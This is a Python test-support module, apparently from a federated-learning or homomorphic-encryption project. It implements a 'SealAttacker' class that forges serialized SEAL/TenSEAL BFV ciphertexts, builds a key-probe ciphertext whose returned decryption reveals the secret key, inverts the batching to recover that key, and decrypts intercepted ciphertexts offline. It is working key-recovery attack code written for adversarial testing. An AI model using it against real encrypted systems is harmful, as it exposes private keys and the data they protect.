"""What a server can do with SEAL's own API and the public parameters: craft BFV ciphertexts
byte by byte, read a ciphertext's coefficients, and decrypt offline with a recovered key.

Used by the adversarial HE tests. A BFV ciphertext (c0, c1) = (0, Delta), Delta = floor(q / t),
decrypts to round(t / q * Delta * s) = s: its batched decryption is Decode(s), so whoever
gets that decryption back inverts the batching and holds the ternary secret key s.
"""

from __future__ import annotations

import os
import struct
import tempfile

import numpy as np
import tenseal.sealapi as sa

from protocols.he.params import HEParams

_SEAL_MAGIC = 0xA15E
_SEAL_HEADER = struct.Struct("<HBBBBHQ")  # magic, size, major, minor, compression, reserved, total


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _proto_fields(data: bytes) -> dict[int, bytes]:
    """Length-delimited fields of TenSEAL's vector message (sizes = 1, ciphertexts = 2)."""
    i, out = 0, {}
    while i < len(data):
        tag = data[i]
        i += 1
        n = shift = 0
        while True:
            b = data[i]
            i += 1
            n |= (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                break
        out[tag >> 3] = data[i:i + n]
        i += n
    return out


class SealAttacker:
    """SEAL tooling built from the public parameters only (no key of any party)."""

    def __init__(self, params: HEParams, template: bytes) -> None:
        """``template``: any serialized BFV vector of ``params`` (e.g. an intercepted update)."""
        self.n, self.t = params.poly_modulus_degree, params.plain_modulus
        parms = sa.EncryptionParameters(sa.SCHEME_TYPE.BFV)
        parms.set_poly_modulus_degree(self.n)
        parms.set_coeff_modulus(sa.CoeffModulus.Create(self.n, list(params.coeff_mod_bit_sizes)))
        parms.set_plain_modulus(sa.Modulus(self.t))
        self.context = sa.SEALContext(parms, True, sa.SEC_LEVEL_TYPE.TC128)
        moduli = self.context.first_context_data().parms().coeff_modulus()
        assert len(moduli) == 1, "the attack tooling handles one data prime"
        self.q = moduli[0].value()
        self.encoder = sa.BatchEncoder(self.context)
        fields = _proto_fields(template)
        self._sizes = fields[1]
        seal = fields[2]
        self._version = seal[3:5]
        self.parms_id = self._load(seal).parms_id()

    def _load(self, seal: bytes) -> sa.Ciphertext:
        with tempfile.NamedTemporaryFile(delete=False) as f:
            f.write(seal)
        try:
            ct = sa.Ciphertext()
            ct.load(self.context, f.name)
        finally:
            os.unlink(f.name)
        return ct

    def _header(self, n: int) -> bytes:
        return _SEAL_HEADER.pack(_SEAL_MAGIC, 16, self._version[0], self._version[1], 0, 0, 16 + n)

    def vector_bytes(self, c0: np.ndarray, c1: np.ndarray) -> bytes:
        """A serialized TenSEAL BFV vector holding the ciphertext (c0, c1), uncompressed."""
        data = np.concatenate([c0, c1]).astype("<u8")
        members = struct.pack("<4Q", *self.parms_id) + b"\x00" + struct.pack(
            "<QQQdQ", 2, self.n, 1, 1.0, 1)
        dyn = struct.pack("<Q", data.size) + data.tobytes()
        body = members + self._header(len(dyn)) + dyn
        seal = self._header(len(body)) + body
        return (b"\x0a" + _varint(len(self._sizes)) + self._sizes
                + b"\x12" + _varint(len(seal)) + seal)

    def key_probe(self) -> bytes:
        """(c0, c1) = (0, Delta): its decryption is the batched secret key."""
        c0 = np.zeros(self.n, dtype=np.uint64)
        c1 = np.zeros(self.n, dtype=np.uint64)
        c1[0] = self.q // self.t
        return self.vector_bytes(c0, c1)

    def secret_from_slots(self, slots: np.ndarray) -> np.ndarray:
        """Invert the batching of a decrypted key probe: the secret key's coefficients."""
        pt = sa.Plaintext()
        self.encoder.encode([int(x) for x in slots], pt)
        coeffs = [pt.data(i) for i in range(self.n)]
        return np.array([c if c < self.t // 2 else c - self.t for c in coeffs], dtype=np.int64)

    def decrypt(self, vector: bytes, s: np.ndarray) -> np.ndarray:
        """Decrypt a serialized BFV vector with the secret key ``s``: the slot residues mod t."""
        ct = self._load(_proto_fields(vector)[2])
        arr = ct.dyn_array()
        vals = np.array([arr[i] for i in range(2 * self.n)], dtype=np.uint64)
        c0, c1 = vals[:self.n], vals[self.n:]
        q = np.uint64(self.q)
        acc = c0.copy()
        for j in np.nonzero(s)[0]:  # c0 + c1 * s in Z_q[x] / (x^n + 1); s is ternary
            term = np.roll(c1, j)
            term[:j] = (q - term[:j]) % q
            if s[j] < 0:
                term = (q - term) % q
            acc = (acc + term) % q
        m = [((self.t * int(v) + self.q // 2) // self.q) % self.t for v in acc]
        terms = [f"{c:X}x^{i}" if i else f"{c:X}" for i, c in reversed(list(enumerate(m))) if c]
        pt = sa.Plaintext(" + ".join(terms) if terms else "0")
        return np.array(self.encoder.decode_uint64(pt), dtype=np.uint64)
